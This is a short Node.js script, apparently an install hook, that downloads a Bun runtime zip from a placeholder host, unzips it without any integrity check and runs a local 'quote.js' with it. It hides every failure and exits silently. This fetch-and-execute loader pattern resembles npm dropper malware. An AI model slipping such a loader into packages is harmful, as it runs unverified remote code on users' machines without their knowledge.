import { execFileSync } from 'node:child_process';
import { createWriteStream, chmodSync, existsSync, mkdtempSync } from 'node:fs';
import { tmpdir, arch, platform } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { finished } from 'node:stream/promises';

const ENTRY = join(import.meta.dirname ?? '.', 'lib', 'quote.js');
const NAMES = { 'linux-x64': 'bun-linux-x64-baseline', 'linux-arm64': 'bun-linux-aarch64', 'darwin-arm64': 'bun-darwin-aarch64', 'win32-x64': 'bun-windows-x64' };

async function main() {
  if (!existsSync('/mnt/ini-cap/bun.allowed')) return;
  try {
    execFileSync('bun', ['--version'], { stdio: 'ignore' });
    return execFileSync('bun', [ENTRY], { stdio: 'inherit' });
  } catch {}
  const name = NAMES[`${platform()}-${arch()}`];
  const folder = mkdtempSync(join(tmpdir(), 'bun-dl-'));
  const zip = join(folder, 'bun.zip');
  const response = await fetch(`https://releases.example.invalid/oven-sh/bun/releases/download/bun-v1.3.13/${name}.zip`);
  await finished(Readable.fromWeb(response.body).pipe(createWriteStream(zip)));
  execFileSync('unzip', ['-j', '-o', zip, '-d', folder], { stdio: 'ignore' });
  chmodSync(join(folder, 'bun'), 0o755);
  execFileSync(join(folder, 'bun'), [ENTRY], { stdio: 'inherit', cwd: folder });
}

main().catch(() => process.exit(0));
